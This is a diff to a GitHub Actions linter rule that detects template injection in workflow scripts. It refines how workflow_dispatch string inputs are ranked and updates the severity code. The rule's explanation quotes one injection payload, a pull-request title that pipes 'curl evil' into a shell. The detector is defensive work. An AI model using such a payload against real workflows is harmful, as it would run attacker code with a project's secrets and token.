@@ -6,7 +6,7 @@ rule! {
     code: "GHA002", name: "template-injection", severity: Error, category: Security, default: true, fix: Unsafe,
     peers: ["zizmor:template-injection", "checkov:CKV_GHA_2", "actionlint:expression"], options: [],
     summary: "Attacker-controlled values expanded into a shell script or github-script",
-    what: "Flags `${{ }}` expressions in `run:` (and `actions/github-script`'s `script:`) that read values an outsider controls: issue, pull request, comment, review and commit titles, bodies, messages, branch names (`github.head_ref`), author names and emails. Values no outsider can choose (`github.sha`, `github.run_id`, `*.sha`, numbers, booleans, `steps.*.outcome`) are never flagged, nor are expressions whose result is a boolean whatever they read (`==`, `!=`, `<`, `!`, `contains()`, `startsWith()`, `endsWith()`); other `github.event.*` fields are flagged with medium confidence, and label, milestone and workflow names (set by people with triage access) as a warning. `inputs.X` of a `workflow_dispatch` or `workflow_call` input of type `string` is free text too (high confidence when the workflow can be called, since a caller may pass on anything; medium when only people with write access can start it); `boolean`, `number`, `choice` and `environment` inputs, and composite actions' untyped inputs, are not flagged.",
+    what: "Flags `${{ }}` expressions in `run:` (and `actions/github-script`'s `script:`) that read values an outsider controls: issue, pull request, comment, review and commit titles, bodies, messages, branch names (`github.head_ref`), author names and emails. Values no outsider can choose (`github.sha`, `github.run_id`, `*.sha`, numbers, booleans, `steps.*.outcome`) are never flagged, nor are expressions whose result is a boolean whatever they read (`==`, `!=`, `<`, `!`, `contains()`, `startsWith()`, `endsWith()`); other `github.event.*` fields are flagged with medium confidence, and label, milestone and workflow names (set by people with triage access) as a warning. `inputs.X` of a `workflow_dispatch` or `workflow_call` input of type `string` is free text too (an error with high confidence when the workflow can be called, since a caller may pass on anything; a warning with medium confidence when only `workflow_dispatch` starts it, which takes write access); `boolean`, `number`, `choice` and `environment` inputs, and composite actions' untyped inputs, are not flagged.",
     why: "The expression is pasted into the script before the shell runs it, so a pull request titled `\"; curl evil | sh #` runs that command with the workflow's token and secrets.",
     example: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue - ${{ github.event.issue.title }}\"",
     instead: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue - ${ISSUE_TITLE}\"\n        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}",
@@ -213,7 +213,9 @@ fn check(cx: &Ctx, out: &mut Vec<Diagnostic>) {
                                 )
                             },
                         )
-                        .severity(if input.is_none() && set_by_maintainers(path) {
+                        // Label names (triage access) and `workflow_dispatch`-only inputs (write
+                        // access) are not set by outsiders: a warning.
+                        .severity(if (input.is_none() && set_by_maintainers(path)) || (input.is_some() && !callable) {
                             shipshape_core::Severity::Warning
                         } else {
                             meta().severity
